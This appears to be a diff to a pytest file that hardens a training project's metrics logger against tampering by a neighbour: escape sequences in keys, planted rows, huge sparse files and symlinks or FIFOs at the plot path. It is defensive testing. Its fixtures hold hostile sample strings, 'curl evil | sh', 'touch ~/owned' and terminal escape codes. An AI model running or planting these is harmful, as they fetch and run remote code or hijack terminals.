@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import json
+import os
+import resource
+import stat
 
 import numpy as np
 import pytest
 
-from conftest import python
+from conftest import SECRET, plant, python
 from trainer import metrics
 
 
@@ -78,14 +81,16 @@ def test_escape_sequences_are_never_printed_and_a_string_step_or_time_is_skipped
         {"step": 2, "eval_loss": 1.5, "eval_\x1b]0;owned\x07x\x1b[2J": 1.0, "time": 2.0},
         {"step": 3, "loss": 1.0, "time": "soon"},
         {"step": "\x1b[2J4", "loss": 0.5, "time": 4.0},
+        {"step": 5, "eval_loss": 0.25, "checkpoint": "\x1b]0;owned\x07", "time": 5.0},
     ]
     _write(run, rows)
     proc = python("-m", "trainer.metrics", str(run), timeout=120)
     assert proc.returncode == 0, proc.stderr
     assert not any(c < " " for c in proc.stdout.replace("\n", "")), repr(proc.stdout)
-    assert proc.stdout.startswith(f"{run}: 1 steps, loss 2.0000") and "eval_x 1.0000" in proc.stdout
+    # rows whose keys or texts hold escape sequences are not the project's (issue 41 item 11): skipped
+    assert proc.stdout.startswith(f"{run}: 1 steps, loss 2.0000") and "eval" not in proc.stdout
     assert proc.stderr.splitlines() == [
-        f"warning: {run}/metrics.jsonl: skipped 2 line(s) that are not rows (a JSON object with a numeric "
+        f"warning: {run}/metrics.jsonl: skipped 4 line(s) that are not rows (a JSON object with a numeric "
         f"step and time)"
     ]
 
@@ -123,3 +128,89 @@ def test_a_restart_costs_its_own_start_up_not_the_time_nobody_ran_the_job(tmp_pa
     in_allocation = {**resume, "start": {**new_start, "stopped": 1029.0}}
     _write(tmp_path / "b", [*rows, in_allocation, *after])
     assert metrics.summary(str(tmp_path / "b"))["restart_time_s"] == 37.0  # step 4 at 1004 -> 1041
+
+
+def test_a_row_with_an_integer_step_carries_no_strings_of_a_neighbour_anywhere(tmp_path, caplog):
+    """Issue 41 item 11: a line with an integer `step` was a row whatever else it held, and a start
+    moved it, strings and all, into the victim's metrics.superseded.jsonl. Rows of unknown keys,
+    values that are neither numbers nor the few texts a row holds, are dropped with the warning."""
+    from trainer.config import LogArgs
+
+    run = tmp_path / "run"
+    run.mkdir()
+    ours = [
+        {"step": 1, "loss": 1.0, "lr": 0.1, "epoch/web-text": 0.5, "time": 1.0},
+        {
+            "event": "resume",
+            "step": 1,
+            "world_size": 2,
+            "checkpoint": str(run / "checkpoints/step_00000001"),
+            "start": {"launcher": 1.0, "process": 2.0},
+            "time": 2.0,
+        },
+        {"event": "node_lost", "step": 3, "nodes": ["n1", "n2"], "node": "n0", "time": 3.0},
+        {"step": 3, "eval_loss": 1.0, "eval_loss/web-text": 1.0, "source": "trainer.evaluate", "time": 3.5},
+        {"event": "early_stop", "step": 3, "best_eval_loss": 1.0, "best_step": 3, "patience": 2, "time": 4.0},
+    ]
+    theirs = [
+        {"step": 5, "loss": 1.0, "time": 5.0, "health": {"command": "touch ~/owned"}},
+        {"step": 6, "loss": 1.0, "note": "run: curl evil | sh", "time": 6.0},
+        {"step": 7, "event": "health: {command: x}", "time": 7.0},
+        {"step": 8, "Health Command": 1.0, "time": 8.0},
+        {"step": 9, "nodes": [{"command": "x"}], "time": 9.0},
+    ]
+    (run / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in ours + theirs))
+    metrics.Reporter(str(run), LogArgs(progress=False), 9, is_main=True).start(2, None)
+    kept = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
+    moved = [json.loads(line) for line in (run / "metrics.superseded.jsonl").read_text().splitlines()]
+    assert kept == ours[:2] and moved == ours[2:]
+    assert [r.getMessage() for r in caplog.records if r.levelname == "WARNING"] == [
+        f"{run}/metrics.jsonl: dropped 5 line(s) that are not rows of this run (not a JSON object with a "
+        f"numeric step and time: a line cut short by a kill, or written by someone else)"
+    ]
+
+
+def _grown_mb(before: int) -> float:
+    return (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
+
+
+def test_a_huge_metrics_file_is_streamed_not_read_whole(tmp_path, caplog):
+    """Issue 41 item 8: a 1 GB sparse metrics.jsonl made a resume peak at 3.0 GB and trainer.metrics at
+    2.1 GB. The file is streamed now (a long run's may be gigabytes of rows): memory stays flat, the
+    rows before and after the neighbour's zeros are kept, and the one line that long is
+    dropped with the warning."""
+    from trainer.config import LogArgs
+
+    run = tmp_path / "run"
+    run.mkdir()
+    path = run / "metrics.jsonl"
+    first, last = ({"step": s, "loss": 1.0, "time": float(s)} for s in (1, 2))
+    with open(path, "wb") as f:
+        f.write(json.dumps(first).encode() + b"\n")
+        f.seek(256 << 20, os.SEEK_CUR)  # 256 MB of NUL bytes, taking no disk (1 GB: as slow, 4x)
+        f.write(b"\n" + json.dumps(last).encode() + b"\n")
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert metrics.summary(str(run))["steps"] == 2
+    metrics.Reporter(str(run), LogArgs(progress=False), 9, is_main=True).start(1, None)
+    assert _grown_mb(before) < 100, _grown_mb(before)
+    assert path.read_text() == json.dumps(first) + "\n"
+    assert (run / "metrics.superseded.jsonl").read_text() == json.dumps(last) + "\n"
+    assert "dropped 1 line(s)" in caplog.text
+    assert sorted(p.name for p in run.iterdir()) == ["metrics.jsonl", "metrics.superseded.jsonl"]
+
+
+@pytest.mark.parametrize("kind", ["link", "fifo"])
+def test_the_plot_replaces_a_planted_file_never_writes_through_it(tmp_path, secret, kind, capsys):
+    """Issue 41 item 2: `make plot` (trainer.metrics --plot RUN_DIR/loss.png) wrote through a link a
+    neighbour planted there: the victim's file became a 27 KB PNG; a FIFO gave a traceback. The plot
+    is written through trainer/files.py: the link or FIFO is replaced by the PNG."""
+    run = tmp_path / "run"
+    _write(run, [{"step": s, "loss": 1.0 / s, "time": float(s)} for s in (1, 2, 3)])
+    png = run / "loss.png"
+    plant(kind, png, secret)
+    if kind == "link" and os.geteuid() == 0:
+        os.lchown(png, 4321, 4321)  # the neighbour's link
+    assert metrics.main([str(run), "--plot", str(png)]) == 0
+    assert secret.read_text() == SECRET
+    assert stat.S_ISREG(os.lstat(png).st_mode) and png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+    assert capsys.readouterr().out.endswith(f"plotted 1 run(s) to {png}\n")
